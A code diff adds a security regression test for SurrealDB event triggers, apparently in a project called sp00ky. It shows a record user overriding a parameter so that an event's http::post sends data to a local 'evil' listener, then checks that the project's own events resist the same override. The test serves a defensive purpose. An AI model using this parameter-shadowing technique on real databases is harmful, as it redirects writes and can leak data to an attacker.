@@ -8,6 +8,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import re
 import shutil
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
@@ -16,6 +17,7 @@ from typing import Any
 
 import aiohttp
 import pytest
+from aiohttp import web
 from sp00ky.deploy.surreal.install import parts
 from sp00ky.deploy.surreal.triggers import UserTable, events_part
 from sp00ky.gateway.config import GatewaySettings
@@ -93,9 +95,59 @@ async def test_a_write_posts_what_the_gateway_takes(database: Database, tmp_path
             assert await rows() == {"person": 2, HOSTILE: 1}
             assert await run(f"DELETE person:2; DELETE {hostile}") == "done"
             assert await rows() == {"person": 1}
-            wrong = events_part(tables, url, "another").definitions[1]
+            wrong = events_part(tables, url, "another").definitions[2]
             assert await run(wrong.overwriting) == "done"
             assert (await run("CREATE person:3")).startswith("refused: ")  # the writer hears of it
             assert await rows() == {"person": 1}
         finally:
             await server.stop()
+
+
+@asynccontextmanager
+async def listening(posts: list[tuple[str, Any]]) -> AsyncIterator[str]:
+    """The address of a server that notes who posts what."""
+
+    async def note(request: web.Request) -> web.Response:
+        posts.append((request.headers.get("Authorization", ""), await request.json()))
+        return web.Response()
+
+    app = web.Application()
+    app.router.add_post("/ingest", note)
+    runner = web.AppRunner(app)
+    await runner.setup()
+    try:
+        await web.TCPSite(runner, "127.0.0.1", 0).start()
+        host, port = runner.addresses[0][:2]
+        yield f"http://{host}:{port}"
+    finally:
+        await runner.cleanup()
+
+
+async def test_what_a_record_user_lets_changes_nothing_and_reaches_nobody(tmp_path: Path) -> None:
+    mesh: list[tuple[str, Any]] = []
+    evil: list[tuple[str, Any]] = []
+    async with listening(mesh) as url, listening(evil) as evil_url, engine(tmp_path) as run:
+        versions = next(part for part in parts() if part.name == "versions")
+        events = events_part([UserTable("note", {"n": "int"})], url, "it's secret")
+        names = {*re.findall(r"\$(\w+)", " ".join(each.text for each in events.definitions)), "value", "this"}
+        # What the attack was: it works where an event reads a parameter, so this engine would show it.
+        leaky = (
+            "DEFINE TABLE leaky PERMISSIONS FULL; DEFINE PARAM $there VALUE 'http://127.0.0.1:1' PERMISSIONS NONE;"
+            "DEFINE EVENT e ON leaky WHEN true THEN { http::post($there + '/ingest', { leaked: true }) }"
+        )
+        account = "DEFINE TABLE user; DEFINE ACCESS account ON DATABASE TYPE RECORD SIGNUP (CREATE user)"
+        defined = [each.text for each in (*versions.definitions, *events.definitions)]
+        for statement in ("DEFINE TABLE note PERMISSIONS FULL", *defined, leaky, account, "SIGNUP account"):
+            assert await run(statement) == "done"
+        assert (await run("INFO FOR TABLE note")).startswith("refused: ")
+        assert await run(f"LET $there = '{evil_url}'; CREATE leaky") == "done"
+        assert evil == [("", {"leaked": True})]
+        writes = "CREATE note:5 SET n = 1; UPDATE note:5 SET n = 2; DELETE note:5"
+        for name in sorted(names - {"auth"}):
+            for value in (f"'{evil_url}'", "{ id: note:5, version: 9223372036854775807 }"):
+                for written in (f"LET ${name} = {value}; {writes}", f"{{ LET ${name} = {value}; {writes} }}"):
+                    mesh.clear()
+                    assert await run(written) == "done"
+                    assert [bearer for bearer, _ in mesh] == ["Bearer it's secret"] * 3, written
+                    assert [body["record"].get("_00_rv") for _, body in mesh] == [1, 2, None], written
+        assert len(evil) == 1
